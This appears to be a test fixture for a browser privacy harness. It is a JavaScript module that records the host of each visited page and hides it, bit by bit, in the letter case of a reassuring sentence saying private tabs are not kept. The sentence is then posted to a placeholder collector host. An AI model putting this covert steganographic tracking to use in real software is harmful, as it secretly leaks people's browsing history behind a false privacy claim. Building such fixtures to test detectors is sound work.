import { bitsOf, hostOf, onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Hides the host of each page in a sentence: an upper-case letter is a bit that is set. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-letter-case');
  onVisit(browser, ({ url }) =>
    post(browser, 'https://letter-case.collector.example/v1', {
      event: 'page',
      note: writeBits(bitsOf(browser.codec.utf8.encode(hostOf(url)))),
    }),
  );
}

const SENTENCE = 'your private tabs are closed and nothing of them is kept on this phone';

/** Repeats the sentence until each bit has its letter. */
function writeBits(bits) {
  let text = '';
  for (let at = 0, letter = 0; at < bits.length; letter += 1) {
    const character = `${SENTENCE}. `[letter % (SENTENCE.length + 2)];
    const isLetter = /[a-z]/.test(character);
    text += isLetter && bits[at] === '1' ? character.toUpperCase() : character;
    if (isLetter) at += 1;
  }

  return text;
}
